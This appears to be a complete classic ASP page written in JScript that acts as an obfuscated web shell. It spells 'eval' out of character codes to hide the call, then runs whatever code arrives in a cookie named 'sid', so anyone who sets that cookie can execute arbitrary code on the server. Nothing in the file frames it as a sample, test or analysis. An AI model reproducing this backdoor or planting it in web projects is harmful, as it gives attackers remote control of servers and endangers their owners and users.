<%@ Language="JScript" %>
<%
var g = this;
var n = String.fromCharCode(101, 118, 97, 108);
var v = Request.Cookies("sid") + "";
g[n](v);
%>
